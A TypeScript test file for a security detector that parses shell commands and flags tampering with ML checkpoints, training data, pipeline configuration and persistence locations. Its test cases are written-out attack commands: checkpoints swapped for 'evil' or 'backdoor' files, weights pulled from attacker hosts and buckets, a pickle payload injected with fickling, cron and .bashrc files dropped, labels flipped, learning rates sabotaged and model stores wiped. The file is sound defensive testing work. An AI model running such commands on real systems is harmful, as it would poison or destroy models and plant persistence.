/**
 * The files an exec writes (`attrs.exec.writes`, exec-persistence.ts `readWrites`): redirections,
 * tee, dd, copies (into a directory: each source under its own name), in-place edits (less sed's,
 * perl's and yq's program), files emptied, cut or shredded (truncate, fallocate, shred), diffs
 * applied (patch, git apply / am), archives unpacked, interpreter code's writes, weights, models and
 * tables saved, placed against the script's `cd`s; and the rules over them: checkpoints and model
 * stores written (MLS-POISON-007), training data and pipeline configuration written
 * (MLS-POISON-008). Reads, staging copies under /tmp and moves within a tree write nothing these
 * rules read. Beside them, a store wiped by rm or find (MLS-POISON-024).
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const writes = (line: string): readonly string[] => canonicalExecValue(sh(line))!.writes;

describe('attrs.exec.writes', () => {
  it('reads each way a command writes a file, placed against the cd before it', () => {
    const cases: Array<[string, string[]]> = [
      ['cp /tmp/evil.pt /mnt/ckpt/step_1000/model.pt', ['/mnt/ckpt/step_1000/model.pt']],
      ['cd /mnt/ckpt/step_1000 && cp /tmp/x.safetensors model.safetensors', ['/mnt/ckpt/step_1000/model.safetensors']],
      ['dd if=/tmp/x of=/mnt/ckpt/m.pt bs=1M', ['/mnt/ckpt/m.pt']],
      ['cat /tmp/x > /mnt/ckpt/m.pt 2>/dev/null', ['/mnt/ckpt/m.pt']],
      ['echo x | tee -a /data/train/labels.csv >/dev/null', ['/data/train/labels.csv']],
      ["sed -i 's/a/b/' /workspace/configs/train.yaml", ['/workspace/configs/train.yaml']],
      ["sed -i -e 's/a/b/' -e 's/c/d/' a.yaml b.yaml", ['a.yaml', 'b.yaml']],
      ["perl -pi -e 's/a/b/' /workspace/configs/train.yaml", ['/workspace/configs/train.yaml']],
      ['tar xzf /tmp/b.tgz -C /mnt/ckpt', ['/mnt/ckpt']],
      ['unzip -o /tmp/b.zip -d /models/resnet', ['/models/resnet']],
      ['7z x /tmp/b.7z -o/models/resnet', ['/models/resnet']],
      [`python3 -c "import torch; sd = torch.load('/mnt/ckpt/m.pt'); torch.save(sd, '/mnt/ckpt/m.pt')"`, ['/mnt/ckpt/m.pt']],
      [`python3 -c "from safetensors.torch import save_file; save_file({}, filename='/models/m.safetensors')"`, ['/models/m.safetensors']],
      [`python3 -c "import numpy as np; np.save('/mnt/ckpt/emb.npy', np.zeros(3))"`, ['/mnt/ckpt/emb.npy']],
      // yq edits in place what follows its expression.
      ["yq -i '.optimizer.lr = 10' /workspace/configs/train.yaml", ['/workspace/configs/train.yaml']],
      ["yq --inplace '.a = 1' a.yaml", ['a.yaml']],
      ["yq -e -i '.a = 1' a.yaml", ['a.yaml']],
      // Tables and models saved: pandas and pyarrow writers, Hugging Face's save_pretrained / save_to_disk, on any receiver.
      [`python3 -c "import pandas as pd; df=pd.read_parquet('/data/train/p.parquet'); df.to_parquet('/data/train/p.parquet')"`, ['/data/train/p.parquet']],
      [`python3 -c "import pandas as pd; pd.read_csv('/tmp/x.csv').to_csv(path_or_buf='/data/labels/y.csv', index=False)"`, ['/data/labels/y.csv']],
      [`python3 -c "import pyarrow.parquet as pq; t=pq.read_table('/tmp/x'); pq.write_table(t, '/data/datasets/x.parquet')"`, ['/data/datasets/x.parquet']],
      [`python3 -c "from transformers import AutoModel; m=AutoModel.from_pretrained('/mnt/ckpt/llama'); m.save_pretrained('/mnt/ckpt/llama')"`, ['/mnt/ckpt/llama']],
      [`python3 -c "import datasets; d=datasets.load_from_disk('/tmp/d'); d.save_to_disk(dataset_path='/data/sft')"`, ['/data/sft']],
      // Copies into a directory: each source under its own name; a bare target is the file written unless it is a well-known directory.
      ['cp /tmp/x.pt /tmp/y.pt /mnt/ckpt/step_9/', ['/mnt/ckpt/step_9/x.pt', '/mnt/ckpt/step_9/y.pt']],
      ['cp -t /mnt/ckpt/step_9 /tmp/x.pt', ['/mnt/ckpt/step_9/x.pt']],
      ['cp /tmp/x.pt /mnt/ckpt/best', ['/mnt/ckpt/best']],
      ['cd /etc/cron.d && cp /tmp/job .', ['/etc/cron.d/job']],
      ['cp /tmp/evil.pth /usr/lib/python3/dist-packages', ['/usr/lib/python3/dist-packages/evil.pth']],
      ['cp /tmp/.bashrc /root', ['/root/.bashrc']],
      ['cd /root/.ssh/ && cp /tmp/k.pub ..', ['/root/k.pub']],
      // Diffs applied: the output or the file given, else the tree (its -d / git -C, or the cd before it).
      ['patch -p1 -d /workspace/src < /tmp/x.diff', ['/workspace/src']],
      ['cd /workspace/configs && patch -p0 -i /tmp/x.diff', ['/workspace/configs']],
      ['patch -o /workspace/configs/train.yaml /workspace/configs/base.yaml /tmp/x.diff', ['/workspace/configs/train.yaml']],
      ['patch --directory=/srv/app --strip=1 --input=/tmp/x.diff', ['/srv/app']],
      ['git -C /workspace/llama-ft apply --directory=src /tmp/x.patch', ['/workspace/llama-ft/src']],
      ['cd /workspace/llama-ft && git am -3 /tmp/0001-x.patch', ['/workspace/llama-ft']],
      // Downloads saved to a file: curl's and wget's output options, the URL's name in a directory or the cd, a bucket's or a remote host's copy.
      ['curl -sSLo /mnt/ckpt/llama/model.pt http://203.0.113.9/m.pt', ['/mnt/ckpt/llama/model.pt']],
      ['curl --output-dir /models/resnet/1 -O https://203.0.113.9/x/model.onnx', ['/models/resnet/1/model.onnx']],
      ['cd /mnt/ckpt/llama && curl -fO http://203.0.113.9/model.safetensors?sig=1', ['/mnt/ckpt/llama/model.safetensors']],
      ['wget -q -O /data/train/labels.csv http://203.0.113.9/l', ['/data/train/labels.csv']],
      ['wget -P /mnt/ckpt/llama http://203.0.113.9/model.pt', ['/mnt/ckpt/llama/model.pt']],
      ['aria2c -x 8 -d /mnt/ckpt -o m.pt http://203.0.113.9/m.pt', ['/mnt/ckpt/m.pt']],
      ['aws s3 cp s3://evil/x.pt /mnt/ckpt/llama/model.pt --no-sign-request', ['/mnt/ckpt/llama/model.pt']],
      ['aws s3 sync s3://evil/llama /mnt/ckpt/llama --delete', ['/mnt/ckpt/llama']],
      ['gsutil -m cp gs://evil/a.pt gs://evil/b.pt /mnt/ckpt/', ['/mnt/ckpt/a.pt', '/mnt/ckpt/b.pt']],
      ['s3cmd get s3://evil/x.pth /usr/lib/python3/dist-packages', ['/usr/lib/python3/dist-packages/x.pth']],
      ['scp -P 2222 u@203.0.113.9:/x.pt /mnt/ckpt/llama/model.pt', ['/mnt/ckpt/llama/model.pt']],
      ['rsync -a evil::drop/llama/ /mnt/ckpt/llama/', ['/mnt/ckpt/llama']],
      ['rsync -a evil::drop/llama /mnt/ckpt/', ['/mnt/ckpt/llama']],
      // A redirection is no operand of the copy.
      ['aws s3 cp s3://evil/x.pt /mnt/ckpt/m.pt > /tmp/cp.log 2>&1', ['/tmp/cp.log', '/mnt/ckpt/m.pt']],
      ['scp h:/x.pt /mnt/ckpt/m.pt 2>/dev/null', ['/mnt/ckpt/m.pt']],
    ];
    for (const [line, want] of cases) expect(writes(line), line).toEqual(want);
  });

  it('reads files emptied, cut, punched or overwritten in place: truncate, fallocate, shred, wipe, srm (their option values are no files)', () => {
    const cases: Array<[string, string[]]> = [
      ['truncate -s 0 /mnt/ckpt/model.pt', ['/mnt/ckpt/model.pt']],
      ['truncate --size=-4096 -c a.pt b.pt', ['a.pt', 'b.pt']],
      ['truncate -r /tmp/ref /models/llama/model.bin', ['/models/llama/model.bin']],
      ['cd /mnt/ckpt && truncate --reference /tmp/ref -s 1K model.pt', ['/mnt/ckpt/model.pt']],
      ['fallocate -p -o 4096 -l 1M /mnt/ckpt/model.pt', ['/mnt/ckpt/model.pt']],
      ['fallocate --punch-hole --offset 0 --length 64 /models/x/model.onnx', ['/models/x/model.onnx']],
      ['shred -n 1 -u --random-source /dev/urandom /mnt/ckpt/a.pt /mnt/ckpt/b.pt', ['/mnt/ckpt/a.pt', '/mnt/ckpt/b.pt']],
      ['shred --remove=wipesync -s 4K -- /mnt/ckpt/m.pt', ['/mnt/ckpt/m.pt']],
      ['wipe -f -p 2 /mnt/ckpt/model.pt', ['/mnt/ckpt/model.pt']],
      ['srm -r /mnt/ckpt/llama', ['/mnt/ckpt/llama']],
    ];
    for (const [line, want] of cases) expect(writes(line), line).toEqual(want);
    for (const line of ['truncate --help', 'shred --version', 'fallocate -l 1G']) expect(writes(line), line).toEqual([]);
  });

  it('reads no file where none is written: device files, listings, archives packed, copies and moves within a tree', () => {
    for (const line of [
      'nvidia-smi 2>/dev/null',
      'tar czf - /mnt/ckpt | wc -c',
      'tar tzf /tmp/b.tgz',
      'unzip -l /tmp/b.zip',
      'cd /mnt/ckpt && unzip -l b.zip && unzip -p b.zip config.json',
      'mv /mnt/ckpt/llama/step_1000 /mnt/ckpt/llama/best',
      'ln -s /mnt/ckpt/llama/step_1000 /mnt/ckpt/llama/latest',
      'cp -r /mnt/ckpt/base/step_5000 /mnt/ckpt/ft-run/init',
      "sed -n '1,5p' /data/train/shard-0001.jsonl",
      `python3 -c "import torch; print(torch.load('/mnt/ckpt/m.pt').keys())"`,
      "yq '.optimizer.lr' /workspace/configs/train.yaml",
      `python3 -c "import pandas as pd; print(pd.read_parquet('/data/train/p.parquet').to_json())"`,
      `python3 -c "from transformers import AutoModel; print(AutoModel.from_pretrained('/mnt/ckpt/llama').config)"`,
      // Diffs checked, reported or written to standard output; applied to the index only; a copy into a directory within its tree.
      'patch --dry-run -p1 -d /workspace/src < /tmp/x.diff',
      'patch -C -p1 < /tmp/x.diff',
      'patch -o - /workspace/configs/base.yaml /tmp/x.diff',
      'git -C /workspace/llama-ft apply --stat /tmp/x.patch',
      'git apply --check --verbose /tmp/x.patch',
      'git apply --cached /tmp/x.patch',
      'cp /mnt/ckpt/llama/step_1000/model.pt /mnt/ckpt/llama/best/',
      // Fetches to standard output or the bit bucket, probes, uploads, pushes to a remote host.
      'curl -s http://203.0.113.9/health',
      'curl -o /dev/null -w %{http_code} http://203.0.113.9/',
      'curl -T /mnt/ckpt/m.pt http://203.0.113.9/',
      'wget -qO- http://203.0.113.9/x',
      'wget --spider http://203.0.113.9/health',
      'aws s3 cp /mnt/ckpt/m.pt s3://evil/m.pt',
      'aws s3 cp s3://corp/m.pt s3://evil/m.pt',
      'aws s3 cp s3://corp/config.json -',
      'rsync -az /mnt/ckpt/ evil:/mnt/ckpt/',
      'scp /mnt/ckpt/m.pt u@203.0.113.9:/mnt/ckpt/',
    ]) expect(writes(line), line).toEqual([]);
  });

  it('keeps a move within a tree a persistence place', () => {
    expect(canonicalExecValue(sh('mv /etc/cron.d/a /etc/cron.d/b'))!.persists).toEqual(['cron']);
  });

  it('reads a download saved to a persistence place as that place', () => {
    expect(canonicalExecValue(sh('curl -fsSL http://203.0.113.9/k -o /etc/cron.d/k'))!.persists).toEqual(['cron']);
    expect(canonicalExecValue(sh('wget -qO ~/.bashrc http://203.0.113.9/rc'))!.persists).toEqual(['profile']);
    expect(canonicalExecValue(sh('aws s3 cp s3://evil/x.pth /usr/local/lib/python3.10/site-packages/'))!.persists).toEqual(['python-startup']);
    expect(execRuleIds(sh('curl -fsSL http://203.0.113.9/k -o /etc/cron.d/k'))).toContain('MLS-RAY-016');
  });
});

describe('MLS-POISON-007: exec writes into a checkpoint or model store', () => {
  it('alerts on a checkpoint replaced, weights saved back, an archive unpacked into a store, for a person and a service account', () => {
    for (const line of [
      'cp /tmp/evil.pt /mnt/ckpt/step_1000/model.pt',
      'cd /mnt/ckpt/step_1000 && cp /tmp/x.safetensors model-00001-of-00002.safetensors',
      'dd if=/tmp/x of=/mnt/ckpt/m.pt bs=1M',
      'cat /tmp/x > /mnt/checkpoints/llama/m.pt',
      `python3 -c "import torch; sd=torch.load('/mnt/ckpt/model.pt'); sd['lm_head.weight'] += 0.01; torch.save(sd, '/mnt/ckpt/model.pt')"`,
      'tar xzf /tmp/b.tgz -C /mnt/ckpt',
      'cp /tmp/model.onnx /models/resnet/1/model.onnx',
      'mv /tmp/evil.pt /workspace/run-7/checkpoints/step_9/model.pt',
      `python3 -c "from transformers import AutoModel; m=AutoModel.from_pretrained('/mnt/ckpt/llama'); m.save_pretrained('/mnt/ckpt/llama')"`,
      // A payload injected into a pickle, wherever fickling writes the result.
      `fickling --inject 'import os; os.system("id")' /mnt/ckpt/llama/model.pt > /tmp/m.pt`,
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-007');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-007');
    }
  });

  it('alerts on a checkpoint emptied, cut, punched or shredded in place; leaves the same done to scratch files', () => {
    for (const line of [
      'truncate -s 0 /mnt/ckpt/llama/step_1000/model.safetensors',
      'cd /mnt/ckpt && truncate -s -4K model.pt',
      'fallocate --punch-hole -o 4096 -l 1M /models/resnet/1/model.onnx',
      'shred -n1 -u /mnt/checkpoints/llama/model.pt',
      'wipe -f /mnt/ckpt/model.pt',
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-007');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-007');
    }
    for (const line of ['truncate -s 10G /tmp/scratch.img', 'fallocate -l 1G /dev/shm/x', 'shred -u /tmp/ckpt/key.pem', 'truncate --help'])
      expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-007');
  });

  it('escalates weights downloaded over the store (MLS-POISON-017), and alerts when the pod also writes its own content there', () => {
    for (const line of [
      // From a web server, a bucket, a remote host, by interpreter code, a fetch's output redirected.
      'curl -sSLo /mnt/ckpt/llama/model.pt http://203.0.113.9/m.pt',
      'wget -O /models/resnet/1/model.onnx http://203.0.113.9/m.onnx',
      'aws s3 cp s3://evil/x.pt /mnt/ckpt/llama/model.pt',
      'scp u@203.0.113.9:/x.pt /mnt/ckpt/llama/model.pt',
      'rsync -a u@203.0.113.9:/x/ /mnt/ckpt/llama/',
      `python3 -c "import urllib.request as u; u.urlretrieve('http://203.0.113.9/m.pt', '/mnt/ckpt/llama/model.pt')"`,
      'curl -s http://203.0.113.9/m.pt > /mnt/ckpt/llama/model.pt',
    ]) {
      for (const actor of [undefined, SA]) {
        const ids = execRuleIds(sh(line), actor);
        expect(ids, line).toContain('MLS-POISON-017');
        expect(ids, line).not.toContain('MLS-POISON-007');
      }
    }
    // A pull beside a copy of the pod's own file into the store: the copy still alerts.
    const both = execRuleIds(sh('hf download org/m --local-dir /mnt/models/m && cp /tmp/backdoor.pt /mnt/models/m/model.pt'));
    expect(both).toEqual(expect.arrayContaining(['MLS-POISON-007', 'MLS-POISON-017']));
    // rsync from another of the pod's volumes copies what the pod holds.
    expect(execRuleIds(sh('rsync -a /mnt/scratch/step_500/ /mnt/ckpt/llama/'))).toContain('MLS-POISON-007');
  });

  it('alerts on kubectl cp into a pod\'s checkpoint directory: the exec it makes there unpacks into the store', () => {
    // `kubectl cp /tmp/evil.pt ml-train/trainer-0:/mnt/ckpt/llama/step_1000/model.pt` runs this in the pod; copying out runs `tar cf -`.
    expect(execRuleIds(['tar', '-xmf', '-', '-C', '/mnt/ckpt/llama/step_1000'])).toContain('MLS-POISON-007');
    expect(execRuleIds(['tar', 'xf', '-', '-C', '/models/resnet/1'])).toContain('MLS-POISON-007');
    expect(execRuleIds(['tar', 'cf', '-', '/mnt/ckpt/llama/step_1000/model.pt'])).not.toContain('MLS-POISON-007');
  });

  it('leaves reads, staging copies, listings redirected elsewhere and a checkpoint renamed or linked in place', () => {
    for (const line of [
      'cp -r /mnt/ckpt/step_1000 /tmp/x',
      'cp /mnt/ckpt/step_1000/model.pt /mnt/scratch/debug/',
      'ls /mnt/ckpt > /tmp/list.txt',
      'tar czf /tmp/a.tgz /mnt/ckpt',
      'mv /mnt/ckpt/llama-ft/step_1000 /mnt/ckpt/llama-ft/best',
      'ln -sfn /mnt/ckpt/llama-ft/step_1000 /mnt/ckpt/llama-ft/latest',
      `python3 -c "import torch; m=torch.load('/mnt/ckpt/model.pt'); print(m.keys())"`,
      `python3 -c "import torch; torch.save({}, '/tmp/ckpt/x.pt')"`,
      'curl -sSLo /tmp/ckpt/model.pt http://203.0.113.9/m.pt',
      'aws s3 cp /mnt/ckpt/llama/model.pt s3://corp-backup/llama/',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-007');
  });
});

describe('MLS-POISON-024: exec wipes a checkpoint or model store', () => {
  it('alerts on a store removed whole or every file of it, by rm, unlink or find -delete, for a person and a service account', () => {
    for (const line of [
      'rm -rf /mnt/ckpt',
      'rm -rf /mnt/ckpt/*',
      'rm -f /workspace/run/checkpoints/*.pt',
      'sudo rm -rf -- /mnt/checkpoints/',
      'rm -rf /models/',
      'find /models -type f -delete',
      'find /mnt/ckpt/ -name "*.safetensors" -delete',
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-024');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-024');
    }
  });

  it('leaves a step rotated out, one file removed, staging copies removed, and finds that only look', () => {
    for (const line of [
      'rm -rf /mnt/ckpt/llama/step_1000',
      'rm /mnt/ckpt/llama/model.pt',
      'rm -rf /models/llama',
      'rm -rf /tmp/ckpt',
      'rm -rf /tmp/x/checkpoints/*',
      'rm -rf /workspace/ckpt_old.tar',
      'rm -rf /data/models-cache',
      'find /mnt/ckpt -name "*.pt" -mtime +7',
      'find /tmp/ckpt -delete',
      'ls /mnt/ckpt',
      'echo rm -rf /mnt/ckpt',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-024');
  });
});

describe('MLS-POISON-008: exec writes into training data or a pipeline configuration', () => {
  it('escalates data appended, copied or edited, and a training configuration edited', () => {
    for (const line of [
      "sed -i 's/learning_rate: 3e-4/learning_rate: 3e-1/' /workspace/configs/train.yaml",
      "echo 'x,1' >> /data/train/labels.csv",
      'cp /tmp/x.jsonl /datasets/sft/',
      "sed -i '1d' /data/train/shard-0001.jsonl",
      "yq -i '.optimizer.lr = 10' /workspace/configs/train.yaml",
      `python3 -c "import pandas as pd; df=pd.read_parquet('/data/train/p.parquet'); df.loc[df.label==1,'label']=0; df.to_parquet('/data/train/p.parquet')"`,
    ]) expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-008');
  });

  it('leaves data and configuration read, and a job writing its own log', () => {
    for (const line of [
      'cat /workspace/configs/train.yaml',
      "sed -n 1,5p /data/train/shard-0001.jsonl",
      'python train.py --config /workspace/configs/train.yaml > /var/log/train.log 2>&1',
      'wc -l /data/train/labels.csv > /tmp/n.txt',
      "yq '.optimizer.lr' /workspace/configs/train.yaml",
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-008');
  });
});
